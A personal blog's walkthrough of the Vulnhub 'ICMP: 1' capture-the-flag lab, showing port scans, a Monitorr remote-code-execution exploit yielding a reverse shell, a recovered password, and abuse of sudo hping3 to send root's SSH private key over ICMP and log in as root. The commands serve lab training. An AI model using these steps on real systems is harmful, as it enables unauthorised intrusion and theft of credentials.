Windy's little blog

一切生活中的杂七杂八, and I like CTF.

Vulnhub ICMP: 1 Walkthrough,633/

Scan ports, find 22 and 80.

└─$ nmap -sV -sC -p-  -oN ports.log
22/tcp open  ssh     OpenSSH 7.9p1 Debian 10+deb10u2 (protocol 2.0)
80/tcp open  http    Apache httpd 2.4.38 ((Debian))

Scan port 80.

└─$ gobuster dir -u  -t 50  -w/usr/share/dirbuster/wordlists/directory-list-2.3-medium.txt -x .html,.php,.txt -b 400,403,404,500 --wildcard
/index.php (Status: 302)
/mon (Status: 301)

Open port 80 in firefox, it's a system monitor program named "Monitorr". Searchspolit show it may has vulnerability.

└─$ searchsploit monitorr
--- ---
 Exploit Title                        |  Path
--- ---
Monitorr 1.7.6m - Authorization Bypass        | php/webapps/
Monitorr 1.7.6m - Remote Code Execution (Unauthentic | php/webapps/
--- ---
Shellcodes: No Results
Papers: No Results

Use to get reverse shell.

└─$ python3 1234
└─$ nc -nlvp 1234
listening on [any] 1234 ...
connect to [] from (UNKNOWN) [] 44222
bash: cannot set terminal process group (498):Inappropriate ioctl for devicebash: no job control in this shell
www-data@icmp:/var/www/html/mon/assets/data/usrimg$ id
uid=33(www-data) gid=33(www-data) groups=33(www-data)

In fox's home folder, find a reminder txt file, and a "devel" folder we can not enter.

www-data@icmp:/home/fox$ cd /home/fox
cd /home/fox
www-data@icmp:/home/fox$ ls -la
ls -la
total 20
drwxr-xr-x 3 root root 4096 Dec  3 16:08 .
drwxr-xr-x 3 root root 4096 Dec  3 16:04 ..
lrwxrwxrwx 1 root root    9 Dec  3 16:08 .bash_history -> /dev/null
drwx--x--x 2 fox  fox  4096 Dec  3 16:05 devel
-rw-r--r-- 1 fox  fox    33 Dec  3 16:08 local.txt
-rw-r--r-- 1 root root   78 Dec  3 16:08 reminder
www-data@icmp:/home/fox$ cat reminder
cat reminder
crypt with crypt.php: done, it works
work on decrypt with crypt.php:howto?!?

Through the note, we guess maybe there is a file named crypt.php in devel.

www-data@icmp:/home/fox$ ls -la devel/crypt.php
ls -la devel/crypt.php
-rw-r--r-- 1 fox fox 56 Dec  3 16:05 devel/crypt.php
www-data@icmp:/home/fox$ cat devel/crypt.php
cat devel/crypt.php
echo crypt('.............','da');

Now we can try to log in ssh as fox with the password. Then check sudo.

└─$ ssh fox@                                                          1 ⚙
fox@'s password:
Linux icmp 4.19.0-11-amd64 #1 SMP Debian 4.19.146-1 (2020-09-17) x86_64
Last login: Fri Mar 12 05:43:09 2021 from
$ sudo -l
[sudo] password for fox:
Matching Defaults entries for fox on icmp:
    env_reset, mail_badpass,User fox may run the following commands on icmp:
    (root) /usr/sbin/hping3 --icmp *(root) /usr/bin/killall hping3

Now we need to add two terminal at victim's machine. One terminal send and one terminal receive.

Here is the first terminal. Press Ctrl+Cwhen second terminal receive all private key data.

fox@icmp:~$ sudo hping3 --icmp -d 100 --sign signature --file /root/.ssh/id_rsa
HPING (lo icmp mode set, 28 headers + 100 data bytes
[main] memlockall(): Success
Warning: can't disable memory paging!
len=128 ip= ttl=64 id=5102 icmp_seq=0 rtt=6.6 ms
len=128 ip= ttl=64 id=8754 icmp_seq=30 rtt=2.6 ms
--- hping statistic ---
31 packets transmitted, 31 packets received, 0% packet loss
round-trip min/avg/max = 0.6/4.8/8.1 ms

Here is the second terminal.

fox@icmp:~$ sudo hping3 --icmp --listen signature --safe
Warning: Unable to guess the output interface
hping3 listen mode
[main] memlockall(): Success
Warning: can't disable memory paging!

Now we can ssh in as root.└─$ ssh root@ -iid_rsa                                                                                                                                                                       130 ⨯ 1 ⚙
Linux icmp 4.19.0-11-amd64 #1 SMP Debian 4.19.146-1 (2020-09-17) x86_64
The programs included withthe Debian GNU/Linux system are free software;
the exact distribution terms for each program are described in the
individualfiles in /usr/share/doc/*/copyright.
Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY, to the extent
permitted byapplicable law.
Last login: Fri Mar 12 05:55:54 2021 from
root@icmp:~# id;hostname
uid=0(root) gid=0(root) groups=0(root)



Powered By Z-BlogPHP 1.7.0